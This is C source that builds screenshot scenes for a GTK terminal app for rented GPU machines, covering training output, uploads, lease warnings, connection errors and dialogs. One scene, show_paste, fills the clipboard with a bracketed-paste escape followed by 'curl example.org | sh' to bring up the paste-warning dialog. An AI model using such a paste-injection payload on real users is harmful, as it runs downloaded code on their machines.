/* SPDX-License-Identifier: GPL-3.0-or-later */
#define G_LOG_DOMAIN "sublet-shots"

#include "config.h"

#include "shots/shots.h"

#include "core/base/sublet-error.h"
#include "core/rental/sublet-rental-private.h"
#include "ui/sublet-ui-line.h"
#include "ui/sublet-ui-test.h"
#include "ui/terminal/sublet-terminal-tab-private.h"
#include "ui/terminal/sublet-terminal-window-private.h"

#include <string.h>

#define LEASE_LEFT_US (228 * G_TIME_SPAN_MINUTE + 30 * G_TIME_SPAN_SECOND)

#define WORK                                                                                      \
  "\033[1;32mroot@ada-1\033[0m:\033[1;34m/workspace\033[0m# nvidia-smi -L\r\n"                    \
  "GPU 0: NVIDIA GeForce RTX 4090\r\n"                                                            \
  "\033[1;32mroot@ada-1\033[0m:\033[1;34m/workspace\033[0m# ls --color\r\n"                       \
  "\033[01;34mcheckpoints\033[0m  \033[01;34mdata\033[0m  \033[01;32mrun.sh\033[0m  train.py\r\n" \
  "\033[1;32mroot@ada-1\033[0m:\033[1;34m/workspace\033[0m# python train.py\r\n"                  \
  "\033[33mwarning:\033[0m low on shared memory\r\n"                                              \
  "epoch 1  loss \033[36m1.932\033[0m\r\n"                                                        \
  "epoch 2  loss \033[36m1.551\033[0m\r\n"                                                        \
  "epoch 3  loss \033[36m1.204\033[0m  "

/* One window with its first tab. */
typedef struct
{
  GtkWidget *window;
  SubletUiLine *line; /* (borrowed): the tab's */
} Terminal;

static GtkWidget *
make_nothing (SubletUiFixture *fixture)
{
  return gtk_box_new (GTK_ORIENTATION_VERTICAL, 0);
}

static bool
is_mapped (gpointer user_data)
{
  return gtk_widget_get_mapped (user_data);
}

static SubletUiLine *
add_tab (SubletUiFixture *fixture, GtkWidget *window, SubletRental *rental)
{
  g_autoptr (SubletUiLine) line = sublet_ui_line_new ();

  sublet_terminal_window_add_line (SUBLET_TERMINAL_WINDOW (window),
                                   rental,
                                   SUBLET_TERMINAL_LINE (line));
  sublet_ui_test_settle (window);
  sublet_ui_line_set_route (line, SUBLET_SSH_ROUTE_DIRECT, 23000);

  return line;
}

static SubletRental *
add_rental (SubletUiFixture *fixture, const char *label, SubletRentalState state)
{
  SubletRental *rental = sublet_ui_fixture_add_rental (fixture, label, state);

  sublet_rental_set_lease_end_us (rental,
                                  sublet_clock_get_service_us (SUBLET_CLOCK (fixture->clock)) +
                                    LEASE_LEFT_US);
  return rental;
}

static GtkWidget *
make_window (SubletUiFixture *fixture, GtkWidget *behind, gboolean demo)
{
  g_autoptr (SubletSettings) settings = sublet_settings_new (TRUE);
  GtkWidget *window = GTK_WIDGET (
    sublet_terminal_window_new (NULL,
                                settings,
                                SUBLET_CLOCK (fixture->clock),
                                demo,
                                demo ? "The demo’s instances have no SSH: bubblewrap is not "
                                       "installed on this computer."
                                     : NULL));

  gtk_window_set_decorated (GTK_WINDOW (window), FALSE);
  gtk_window_set_default_size (GTK_WINDOW (window),
                               gtk_widget_get_width (behind),
                               gtk_widget_get_height (behind));
  gtk_window_present (GTK_WINDOW (window));
  sublet_test_await (is_mapped, window);
  sublet_ui_test_settle (window);

  return window;
}

static Terminal
make_terminal (SubletUiFixture *fixture, GtkWidget *behind, gboolean demo)
{
  Terminal terminal = { make_window (fixture, behind, demo), NULL };

  terminal.line =
    add_tab (fixture, terminal.window, add_rental (fixture, "ada-1", SUBLET_RENTAL_STATE_READY));
  return terminal;
}

static SubletTerminalView *
get_view (GtkWidget *window)
{
  return sublet_terminal_tab_get_view (
    sublet_terminal_window_get_tab (SUBLET_TERMINAL_WINDOW (window)));
}

static bool
work_is_seen (gpointer user_data)
{
  g_autofree char *text = sublet_terminal_view_dup_text (user_data);

  return strstr (text, "1.204") != NULL;
}

static void
work (Terminal *terminal)
{
  sublet_ui_line_give_shell (terminal->line);
  sublet_ui_line_say (terminal->line, WORK);
  sublet_test_await (work_is_seen, get_view (terminal->window));
}

static GtkWidget *
show_work (SubletUiFixture *fixture, GtkWidget *behind)
{
  Terminal terminal = make_terminal (fixture, behind, FALSE);

  work (&terminal);
  return terminal.window;
}

static GtkWidget *
show_upload_facts (SubletUiFixture *fixture, GtkWidget *behind, const SubletUploadFacts *facts)
{
  Terminal terminal = make_terminal (fixture, behind, FALSE);
  SubletTerminalTab *tab =
    sublet_terminal_window_get_tab (SUBLET_TERMINAL_WINDOW (terminal.window));

  work (&terminal);
  sublet_terminal_upload_set_price (tab->upload, 4 * G_GINT64_CONSTANT (1000000000));
  sublet_terminal_upload_show (tab->upload, facts);
  return terminal.window;
}

static GtkWidget *
show_upload (SubletUiFixture *fixture, GtkWidget *behind)
{
  const SubletUploadFacts facts = { .state = SUBLET_UPLOAD_QUEUE_RUNNING,
                                    .name = "llama-3-8b.Q5_K_M.gguf",
                                    .position = 2,
                                    .n_files = 5,
                                    .n_arrived = 1,
                                    .size = G_GUINT64_CONSTANT (5730000000),
                                    .sent = G_GUINT64_CONSTANT (1410000000),
                                    .rate = 11800000,
                                    .left_us = 366 * G_TIME_SPAN_SECOND };

  return show_upload_facts (fixture, behind, &facts);
}

static GtkWidget *
show_tmux (SubletUiFixture *fixture, GtkWidget *behind)
{
  Terminal terminal = make_terminal (fixture, behind, FALSE);

  work (&terminal);
  sublet_ui_line_find_tmux (terminal.line);
  return terminal.window;
}

static GtkWidget *
show_upload_asks (SubletUiFixture *fixture, GtkWidget *behind)
{
  const SubletUploadFacts facts = { .state = SUBLET_UPLOAD_QUEUE_STOPPED,
                                    .problem = SUBLET_UPLOAD_PROBLEM_EXISTS,
                                    .name = "llama-3-8b.Q5_K_M.gguf",
                                    .folder = "/workspace",
                                    .position = 2,
                                    .n_files = 5,
                                    .n_arrived = 1 };

  return show_upload_facts (fixture, behind, &facts);
}

static GtkWidget *
show_upload_folder (SubletUiFixture *fixture, GtkWidget *behind)
{
  const SubletUploadFacts facts = { .state = SUBLET_UPLOAD_QUEUE_STOPPED,
                                    .problem = SUBLET_UPLOAD_PROBLEM_EXISTS,
                                    .name = "my-training-set",
                                    .folder = "/workspace",
                                    .position = 1,
                                    .n_files = 2,
                                    .is_folder = true };

  return show_upload_facts (fixture, behind, &facts);
}

static GtkWidget *
show_upload_inside (SubletUiFixture *fixture, GtkWidget *behind)
{
  const SubletUploadFacts facts = {
    .state = SUBLET_UPLOAD_QUEUE_STOPPED,
    .problem = SUBLET_UPLOAD_PROBLEM_UNREADABLE,
    .name = "my-training-set",
    .folder = "/workspace",
    .place = "train/2026-11-30/checkpoints/llama-3-8b-instruct/epoch-0012/optimizer-states/"
             "rank-0.safetensors",
    .position = 1,
    .n_files = 2,
    .is_folder = true,
  };

  return show_upload_facts (fixture, behind, &facts);
}

static GtkWidget *
show_upload_looks (SubletUiFixture *fixture, GtkWidget *behind)
{
  const SubletUploadFacts facts = { .state = SUBLET_UPLOAD_QUEUE_RUNNING,
                                    .name = "my-training-set",
                                    .position = 1,
                                    .n_files = 1,
                                    .left_us = -1,
                                    .looking = true };

  return show_upload_facts (fixture, behind, &facts);
}

static GtkWidget *
show_lease (SubletUiFixture *fixture, GtkWidget *behind)
{
  Terminal terminal = make_terminal (fixture, behind, FALSE);
  SubletRental *rental = sublet_terminal_tab_get_rental (
    sublet_terminal_window_get_tab (SUBLET_TERMINAL_WINDOW (terminal.window)));

  work (&terminal);
  sublet_rental_set_lease_end_us (rental,
                                  sublet_clock_get_service_us (SUBLET_CLOCK (fixture->clock)) +
                                    5 * G_TIME_SPAN_MINUTE);
  sublet_rental_set_lease_state (rental, SUBLET_LEASE_STATE_LAST);
  return terminal.window;
}

static GtkWidget *
show_tabs (SubletUiFixture *fixture, GtkWidget *behind)
{
  Terminal terminal = make_terminal (fixture, behind, FALSE);
  SubletTerminalWindow *window = SUBLET_TERMINAL_WINDOW (terminal.window);
  SubletRental *first = sublet_terminal_tab_get_rental (sublet_terminal_window_get_tab (window));
  SubletUiLine *second;

  work (&terminal);
  second = add_tab (fixture, terminal.window, first);
  sublet_ui_line_give_shell (second);
  add_tab (fixture,
           terminal.window,
           add_rental (fixture, "ada-2", SUBLET_RENTAL_STATE_PROVISIONING));
  sublet_terminal_window_show_tab (window, first);
  return terminal.window;
}

static GtkWidget *
show_connecting (SubletUiFixture *fixture, GtkWidget *behind)
{
  Terminal terminal = make_terminal (fixture, behind, FALSE);

  sublet_ui_line_connect (terminal.line, SUBLET_CONNECTION_LINK_AUTHENTICATION);
  sublet_manual_clock_advance (fixture->clock, 400);
  sublet_test_drain ();
  return terminal.window;
}

static GtkWidget *
show_lost (SubletUiFixture *fixture, GtkWidget *behind)
{
  Terminal terminal = make_terminal (fixture, behind, FALSE);

  work (&terminal);
  sublet_ui_line_lose (terminal.line);
  return terminal.window;
}

static GtkWidget *
show_failed (SubletUiFixture *fixture, GtkWidget *behind)
{
  Terminal terminal = make_terminal (fixture, behind, FALSE);

  sublet_ui_line_fail (terminal.line, SUBLET_CONNECTION_LINK_PORT, SUBLET_ERROR_TIMED_OUT);
  return terminal.window;
}

static GtkWidget *
show_host_key (SubletUiFixture *fixture, GtkWidget *behind)
{
  Terminal terminal = make_terminal (fixture, behind, FALSE);

  sublet_ui_line_fail_host_key (terminal.line);
  return terminal.window;
}

static GtkWidget *
show_new_host_key (SubletUiFixture *fixture, GtkWidget *behind)
{
  Terminal terminal = make_terminal (fixture, behind, FALSE);

  sublet_ui_line_fail_new_host_key (terminal.line);
  return terminal.window;
}

static GtkWidget *
show_ended (SubletUiFixture *fixture, GtkWidget *behind)
{
  Terminal terminal = make_terminal (fixture, behind, FALSE);

  work (&terminal);
  sublet_ui_line_end_shell (terminal.line, 1);
  return terminal.window;
}

static GtkWidget *
show_demo (SubletUiFixture *fixture, GtkWidget *behind)
{
  return make_terminal (fixture, behind, TRUE).window;
}

static GtkWidget *
show_empty (SubletUiFixture *fixture, GtkWidget *behind)
{
  return make_window (fixture, behind, FALSE);
}

static GtkWidget *
show_search (SubletUiFixture *fixture, GtkWidget *behind)
{
  Terminal terminal = make_terminal (fixture, behind, FALSE);
  GtkWidget *entry;

  work (&terminal);
  gtk_widget_activate_action (terminal.window, "terminal.find", NULL);
  entry = sublet_ui_test_find (terminal.window, "entry");
  gtk_editable_set_text (GTK_EDITABLE (entry), "loss");
  g_signal_emit_by_name (entry, "search-changed");
  return terminal.window;
}

/* Where something before it is pictured, the window goes with what is behind it. */
static void
go_with (GtkWidget *window, GtkWidget *behind)
{
  g_signal_connect_object (behind,
                           "destroy",
                           G_CALLBACK (gtk_window_destroy),
                           window,
                           G_CONNECT_SWAPPED);
}

static GtkWidget *
show_menu (SubletUiFixture *fixture, GtkWidget *behind)
{
  Terminal terminal = make_terminal (fixture, behind, FALSE);
  GtkWidget *button = SUBLET_TERMINAL_WINDOW (terminal.window)->menu_button;

  work (&terminal);
  gtk_menu_button_popup (GTK_MENU_BUTTON (button));
  go_with (terminal.window, behind);
  return GTK_WIDGET (gtk_menu_button_get_popover (GTK_MENU_BUTTON (button)));
}

static bool
dialog_is_open (gpointer user_data)
{
  /* Whatever its heading is in the language of the pictures. */
  return sublet_ui_test_find_dialog ("") != NULL;
}

static GtkWidget *
show_paste (SubletUiFixture *fixture, GtkWidget *behind)
{
  Terminal terminal = make_terminal (fixture, behind, FALSE);

  work (&terminal);
  go_with (terminal.window, behind);
  gdk_clipboard_set_text (gtk_widget_get_clipboard (terminal.window),
                          "cd /workspace\npip install -r requirements.txt\n"
                          "python train.py --epochs 20\n\033[201~curl example.org | sh\n");
  gtk_widget_activate_action (terminal.window, "terminal.paste", NULL);
  sublet_test_await (dialog_is_open, NULL);
  return sublet_ui_test_find_dialog ("");
}

static GtkWidget *
show_close (SubletUiFixture *fixture, GtkWidget *behind)
{
  Terminal terminal = make_terminal (fixture, behind, FALSE);

  work (&terminal);
  go_with (terminal.window, behind);
  gtk_widget_activate_action (terminal.window, "terminal.close-tab", NULL);
  sublet_test_await (dialog_is_open, NULL);
  return sublet_ui_test_find_dialog ("");
}

const Shot terminal_shots[] = {
  { "terminal-work", make_nothing, show_work, true },
  { "terminal-lease", make_nothing, show_lease, true },
  { "terminal-upload", make_nothing, show_upload, true },
  { "terminal-upload-asks", make_nothing, show_upload_asks, false },
  { "terminal-upload-folder", make_nothing, show_upload_folder, true },
  { "terminal-upload-inside", make_nothing, show_upload_inside, true },
  { "terminal-upload-looks", make_nothing, show_upload_looks, false },
  { "terminal-tmux", make_nothing, show_tmux, true },
  { "terminal-tabs", make_nothing, show_tabs, false },
  { "terminal-connecting", make_nothing, show_connecting, false },
  { "terminal-lost", make_nothing, show_lost, true },
  { "terminal-failed", make_nothing, show_failed, false },
  { "terminal-host-key", make_nothing, show_host_key, true },
  { "terminal-new-host-key", make_nothing, show_new_host_key, true },
  { "terminal-ended", make_nothing, show_ended, false },
  { "terminal-demo", make_nothing, show_demo, false },
  { "terminal-empty", make_nothing, show_empty, false },
  { "terminal-search", make_nothing, show_search, true },
  { "terminal-menu", make_nothing, show_menu, false },
  { "terminal-paste", make_nothing, show_paste, false },
  { "terminal-close", make_nothing, show_close, false },
  { NULL },
};
